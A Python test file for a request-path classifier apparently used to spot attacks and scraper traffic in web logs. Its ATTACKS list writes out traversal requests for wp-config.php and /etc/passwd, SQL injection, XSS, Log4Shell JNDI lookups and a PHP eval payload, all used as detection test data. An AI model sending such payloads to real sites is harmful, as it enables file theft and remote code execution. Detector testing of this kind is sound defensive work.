"""Path facts flag the same requests in both engines: Python's `re` (stream) and DuckDB's RE2
(batch) run one pattern, which must stay linear-time and RE2-compatible."""

from __future__ import annotations

import duckdb
import pytest

from scrapeguard import pathfacts

ATTACKS = [
    "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php",
    "/wp-admin/admin-ajax.php?action=revslider_show_image&img=..%2Fwp-config.php",
    "/static/../../../etc/hosts",
    "/%2e%2e/%2e%2e/boot.ini",
    "/cgi-bin/.%2e/.%2e/bin/sh",
    "/download?file=%252e%252e%252fconfig",
    "/index.php?page=/etc/passwd",
    "/?file=..\\..\\windows\\win.ini",
    "/x.php?p=/proc/self/environ",
    "/item.php?id=1+UNION+ALL+SELECT+1,2,3",
    "/item.php?id=1%20union%20select%20null",
    "/item.php?id=1/**/UNION/**/SELECT/**/1",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/search?q=<\u017fcript>",  # RE2 folds the long s to s under (?i); so must Python
    "/?x=${jndi:ldap://198.51.100.9/a}",
    "/?x=%24%7Bjndi:ldap://198.51.100.9/a%7D",
    "/index.php?c=eval(base64_decode(%22ZWNobw%22))",
]
CLEAN = [
    "/",
    "/../Clipart/Mtb150.jpg",  # an old browser keeps a broken relative link's climb above root
    "/../../img/logo.gif",
    "/blog/2016/05/union-selection-results/",
    "/search?q=union+station+selections",
    "/scripts/app.js",
    "/a/b.c/d..e",
    "/etc/passwords-faq.html?from=blog",
    "/?s=..",
    "/wp-content/uploads/2016/05/photo...jpg",
]


def _duckdb(pattern: str, path: str) -> bool:
    return bool(duckdb.sql("SELECT regexp_matches(?, ?)", params=[path, pattern]).fetchall()[0][0])


@pytest.mark.parametrize("path", ATTACKS)
def test_attack_payloads_are_flagged_by_both_engines(path: str) -> None:
    assert pathfacts.attack_regex().search(path)
    assert _duckdb(pathfacts.attack_pattern(), path)


@pytest.mark.parametrize("path", CLEAN)
def test_ordinary_paths_are_not_attacks(path: str) -> None:
    assert not pathfacts.attack_regex().search(path)
    assert not _duckdb(pathfacts.attack_pattern(), path)


@pytest.mark.parametrize(("path", "login"), [
    ("/wp-login.php", True), ("/blog/wp-login.php", True), ("/xmlrpc.php", True),
    ("/login", True), ("/user/login/", True), ("/admin/login", True), ("/signin", True),
    ("/users/sign_in", True), ("/blog/login-tips", False), ("/wp-admin/post.php", False),
    ("/loginhelp", False),
])
def test_login_endpoints(path: str, login: bool) -> None:
    assert bool(pathfacts.LOGIN_REGEX.search(path)) is login
    assert _duckdb(pathfacts.LOGIN_PATH, path) is login


@pytest.mark.parametrize(("path", "author"), [
    ("/?author=2", "2"), ("/blog/?p=1&author=17", "17"), ("/?author=3&paged=2", "3"),
    ("/?author=", None), ("/?coauthor=4", None), ("/?author=2x", None), ("/author/admin/", None),
])
def test_author_ids(path: str, author: str | None) -> None:
    found = pathfacts.AUTHOR_REGEX.search(path)
    assert (found.group(1) if found else None) == author
    extracted = duckdb.sql("SELECT regexp_extract(?, ?, 1)", params=[path, pathfacts.AUTHOR_ID])
    assert (extracted.fetchall()[0][0] or None) == author


@pytest.mark.parametrize(("path", "form"), [
    ("/wp-comments-post.php", True), ("/blog/wp-comments-post.php", True),
    ("/wp-login.php?action=register", True),
    ("/wp-login.php?redirect_to=%2F&action=register", True),
    ("/wp-login.php?registration=disabled", True), ("/wp-signup.php", True),
    ("/user/register", True), ("/forum/register.php", True),
    ("/index.php?option=com_users&view=registration", True), ("/ucp.php?mode=register", True),
    ("/index.php?m=member&c=index&a=register&siteid=1", True),
    ("/wp-login.php", False), ("/wp-login.php?action=lostpassword", False),
    ("/wp-login.php?action=registered", False), ("/register", False),
    ("/wiki/registry-editor/", False), ("/2015/a-post/?replytocom=5", False),
])
def test_form_handlers_by_name(path: str, form: bool) -> None:
    assert bool(pathfacts.FORM_REGEX.search(path)) is form
    assert _duckdb(pathfacts.FORM_PATH, path) is form


@pytest.mark.parametrize(("path", "form"), [
    ("/register", True), ("/account/signup/", True), ("/comments/new", True),
    ("/main/authorization/signUp", True), ("/registered-users", False), ("/comments", False),
])
def test_forms_by_generic_name(path: str, form: bool) -> None:
    assert bool(pathfacts.SITE_FORM_REGEX.search(path)) is form
    assert _duckdb(pathfacts.SITE_FORM_PATH, path) is form


@pytest.mark.parametrize(("path", "software"), [
    ("/feed/", True), ("/2015/05/a-post/feed/", True), ("/feed/atom/", True),
    ("/sitemap.xml", True), ("/index.rss", True), ("/api/v2/items/7", True),
    ("/wp-json/wp/v2/posts/12", True), ("/graphql", True), ("/xmlrpc.php", True),
    ("/2015/05/feeding-cats/", False), ("/apiary/", False), ("/", False),
])
def test_feed_and_api_paths(path: str, software: bool) -> None:
    assert bool(pathfacts.FEED_OR_API_REGEX.search(path)) is software
    assert _duckdb(pathfacts.FEED_OR_API_PATH, path) is software


@pytest.mark.parametrize(("path", "named"), [
    ("/favicon.ico", True), ("/apple-touch-icon-precomposed.png", True),
    ("/img/favicon.ico", False), ("/wp-content/themes/t/style.css", False),
])
def test_files_browsers_fetch_by_name(path: str, named: bool) -> None:
    assert bool(pathfacts.BROWSER_FETCHED_REGEX.search(path)) is named
    assert _duckdb(pathfacts.BROWSER_FETCHED, path) is named
